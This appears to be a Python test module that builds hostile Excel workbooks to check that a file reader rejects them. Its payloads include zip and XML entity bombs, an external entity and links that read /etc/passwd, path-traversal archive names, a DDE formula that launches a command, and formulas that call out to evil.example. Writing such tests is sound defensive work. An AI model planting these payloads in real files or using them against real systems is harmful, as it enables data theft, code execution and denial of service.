"""Hostile workbooks."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import olefile
import xlsxwriter

from engine.records.reading.books import protected, with_part, written, xls, xlsx
from engine.records.reading.hostile.case import CELL, HEADING, ROW, Hostile

_SHEET = "xl/worksheets/sheet1.xml"
_XML = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_DAMAGED, _BEYOND, _KIND, _PROTECTED, _EMPTY = "FG-L010", "FG-L042", "FG-L043", "FG-L041", "FG-L011"
_SESAME = "sesame"
_LONG_KEY = b'spinCount="100000"', b'spinCount="9999999"'
_SPACES = 900_000


def _book() -> bytes:
    return xlsx({"s": [HEADING, ROW]})


def _sheet(rows: bytes, after: bytes = b"") -> bytes:
    return with_part(
        _book(), _SHEET, b"<worksheet " + _XML + b"><sheetData>" + rows + b"</sheetData>" + after + b"</worksheet>"
    )


def _text(place: str, text: str) -> bytes:
    return f'<c r="{place}" t="str"><v>{text}</v></c>'.encode()


def _rows(below: bytes, after: bytes = b"") -> bytes:
    """A sheet with our heading, and below it these rows."""
    heading = b"".join(_text(f"{column}1", name) for column, name in zip("ABCDE", HEADING, strict=True))
    return _sheet(b'<row r="1">' + heading + b"</row>" + below, after)


def _row(number: int, *more: bytes) -> bytes:
    cells = b"".join(_text(f"{column}{number}", cell) for column, cell in zip("ABCDE", ROW, strict=True))
    return b'<row r="%d">' % number + cells + b"".join(more) + b"</row>"


def _appended(book: bytes, *parts: tuple[str, bytes]) -> bytes:
    file = io.BytesIO(book)
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def _doctype(declared: bytes, used: bytes) -> Callable[[bytes], bytes]:
    return lambda part: (
        b'<?xml version="1.0"?><!DOCTYPE x [' + declared + b"]>" + part.partition(b"?>")[2].replace(b"H1", used)
    )


_LAUGHS = b'<!ENTITY a "ha">' + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(10))


def _nested_bomb() -> bytes:
    inner = with_part(_book(), _SHEET, b" " * 50_000_000)
    return _appended(_book(), *((f"xl/embeddings/{number}.zip", inner) for number in range(20)))


def _directory(book: bytes, part: str, offset: int, form: str, value: int) -> bytes:
    """A workbook whose directory says another value of one part."""
    place = book.rindex(part.encode(), 0, book.rindex(b"PK\x05\x06")) - 46
    return book[: place + offset] + struct.pack(form, value) + book[place + offset + struct.calcsize(form) :]


def _overlapping() -> bytes:
    """Two parts of the directory are the same bytes of the file."""
    book = _appended(_book(), ("xl/other.xml", b"<a/>"))
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        start = archive.getinfo(_SHEET).header_offset
    return _directory(book, "xl/other.xml", 42, "<I", start)


def _broken_ole(offset: int, value: int) -> bytes:
    """An XLS file with another number in its allocation of sectors."""
    book = xls({"s": [HEADING, *[ROW] * 400]})
    table = 512 * (1 + struct.unpack_from("<I", book, 76)[0])  # of sectors
    return book[: table + offset] + struct.pack("<I", value) + book[table + offset + 4 :]


def _loop() -> bytes:
    """An XLS file in which every sector is followed by the first."""
    book = bytearray(xls({"s": [HEADING, *[ROW] * 400]}))
    table = 512 * (1 + struct.unpack_from("<I", book, 76)[0])
    struct.pack_into("<128I", book, table, *[0] * 128)
    return bytes(book)


def _encrypted(old: bytes, new: bytes) -> bytes:
    """A protected workbook that says something else of how it is encrypted."""
    file = io.BytesIO(protected(_book(), _SESAME))
    with olefile.OleFileIO(file, write_mode=True) as ole:
        said = ole.openstream("EncryptionInfo").read()
        changed = said.replace(old, new)
        assert changed != said
        ole.write_stream("EncryptionInfo", changed.replace(b"  ", b" ", len(changed) - len(said)))
        return file.getvalue()


def _formulas(book: xlsxwriter.Workbook) -> None:
    sheet = book.add_worksheet("s")
    sheet.write_row(0, 0, HEADING)
    for number, formula in enumerate(
        ('=HYPERLINK("http://evil.example/"&A2)', "=cmd|'/C calc'!A0", '=WEBSERVICE("http://evil.example")'), start=1
    ):
        sheet.write_row(number, 0, ROW)
        sheet.write_formula(number, 4, formula, value=formula)


def _url(book: xlsxwriter.Workbook) -> None:
    sheet = book.add_worksheet("s")
    sheet.write_row(0, 0, HEADING)
    sheet.write_row(1, 0, ROW)
    sheet.write_url(1, 4, "file:///etc/passwd", string=CELL)


def _external() -> bytes:
    """A workbook that names another file, and a program of macros."""
    return _appended(
        _book(),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink " + _XML + b"/>"),
        (
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            b'<Relationships><Relationship Target="file:///etc/passwd"/>',
        ),
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(5_000)),
    )


def _cut(share: float) -> Callable[[], bytes]:
    def make() -> bytes:
        book = xlsx({"s": [HEADING, *[ROW] * 300]})
        return book[: int(len(book) * share)]

    return make


def _shared(length: int, times: int) -> bytes:
    cells = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(1, times + 1))
    strings = b"<sst " + _XML + b"><si><t>" + b"x" * length + b"</t></si></sst>"
    return with_part(_sheet(cells), "xl/sharedStrings.xml", strings)


def _merged(count: int) -> bytes:
    ranges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n, n + 1) for n in range(3, 2 * count + 3, 2))
    return _rows(_row(2), b"<mergeCells>" + ranges + b"</mergeCells>")


def _workbook(name: str, make: Callable[[], bytes], *ends: str, accepted: int = 0, **more: object) -> Hostile:
    return Hostile(f"workbook: {name}", make, ends, accepted, ending=".xlsx", **more)


WORKBOOKS = (
    _workbook("a bomb", lambda: with_part(_book(), _SHEET, b" " * 200_000_000), _BEYOND),
    _workbook(
        "a bomb that says that it is small",
        lambda: _directory(with_part(_book(), _SHEET, b" " * 200_000_000), _SHEET, 24, "<I", 900),
        _BEYOND,
    ),
    _workbook(
        "a small part that says that it is huge", lambda: _directory(_book(), _SHEET, 24, "<I", 2**32 - 2), _BEYOND
    ),
    _workbook("a part that begins beyond the file", lambda: _directory(_book(), _SHEET, 42, "<I", 2**31), _DAMAGED),
    _workbook("bombs within bombs, which nobody opens", _nested_bomb, accepted=1),
    _workbook("parts that overlap", _overlapping, _DAMAGED),
    _workbook("a part of an unknown way of packing", lambda: _directory(_book(), _SHEET, 10, "<H", 95), _BEYOND),
    _workbook("thousands of parts", lambda: _appended(_book(), *((f"xl/{n}.xml", b"") for n in range(6_000))), _BEYOND),
    _workbook(
        "parts with names of other folders",
        lambda: _appended(_book(), ("../../../../tmp/escaped.xml", b"<a/>"), ("/etc/escaped", b"")),
        accepted=1,
    ),
    _workbook(
        "an external entity",
        lambda: with_part(_book(), _SHEET, _doctype(b'<!ENTITY e SYSTEM "file:///etc/passwd">', b"&e;")),
        _BEYOND,
    ),
    _workbook("a billion laughs", lambda: with_part(_book(), _SHEET, _doctype(_LAUGHS, b"&k;")), _BEYOND),
    _workbook(
        "laughs in the relations",
        lambda: with_part(_book(), "xl/_rels/workbook.xml.rels", _doctype(_LAUGHS, b"&k;")),
        _BEYOND,
    ),
    _workbook("links to other files and macros", _external, accepted=1),
    _workbook("a link to a file of the system", lambda: written(_url), accepted=1),
    _workbook("formulas that call out", lambda: written(_formulas), accepted=3),
    _workbook(
        "a million columns",
        lambda: _sheet(b'<row r="1">' + b'<c t="str"><v>x</v></c>' * 1_000_000 + b"</row>"),
        "FG-L013",
        _BEYOND,
    ),
    _workbook(
        "a cell in the last corner",
        lambda: _rows(_row(2) + b'<row r="1048576">' + _text("XFD1048576", "x") + b"</row>"),
        _BEYOND,
    ),
    _workbook(
        "a cell beyond the last corner",
        lambda: _rows(_row(2) + b'<row r="4294967295">' + _text("ZZZZZZ4294967295", "x") + b"</row>"),
        _BEYOND,
        _DAMAGED,
    ),
    _workbook("one long text in every row", lambda: _shared(32_000, 100_000), _BEYOND),
    _workbook("one text longer than any cell", lambda: _shared(5_000_000, 1), "FG-L013"),
    _workbook("a cell longer than any cell", lambda: _rows(_row(2, _text("F2", "x" * 5_000_000))), "FG-L013", _BEYOND),
    _workbook("a million merged cells", lambda: _merged(1_000_000), _BEYOND),
    _workbook(
        "merged cells over everything",
        lambda: _rows(_row(2), b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "FG-L013",
    ),
    _workbook(
        "spaces on which a pattern could brood",
        lambda: _rows(_row(2, b"<c r='F2'><f>1</f>" + b" " * _SPACES + b"<v>1</v></c>")),
        "FG-L013",
    ),
    _workbook("formulas without values", lambda: _rows(_row(2, b'<c r="F2"><f>1+1</f></c>')), accepted=1),
    _workbook("no XML", lambda: with_part(_book(), _SHEET, b"\x00\x01\x02" * 999), _BEYOND),
    _workbook("no sheet", lambda: with_part(_book(), _SHEET, b""), _EMPTY, _DAMAGED),
    *(_workbook(f"cut at {share:.0%}", _cut(share), _DAMAGED, _KIND) for share in (0.01, 0.3, 0.6, 0.9, 0.999)),
    Hostile("XLS: sectors that follow each other in a circle", _loop, (_DAMAGED, _BEYOND, _KIND), ending=".xls"),
    Hostile(
        "XLS: a sector that is followed by itself", lambda: _broken_ole(4, 1), (_DAMAGED, _BEYOND, _KIND), ending=".xls"
    ),
    Hostile("XLS: a sector beyond the file", lambda: _broken_ole(4, 2**30), (_DAMAGED, _BEYOND, _KIND), ending=".xls"),
    Hostile("XLS: cut", lambda: xls({"s": [HEADING, *[ROW] * 400]})[:9_000], (_DAMAGED, _KIND), ending=".xls"),
    _workbook("behind an unknown cipher", lambda: _encrypted(b"AES", b"XYZ"), _PROTECTED),
    _workbook("behind a key that takes hours", lambda: _encrypted(*_LONG_KEY), _PROTECTED),
    _workbook(
        "behind a key that takes hours, with the password",
        lambda: _encrypted(*_LONG_KEY),
        _BEYOND,
        options={"--password-file": _SESAME},
    ),
)
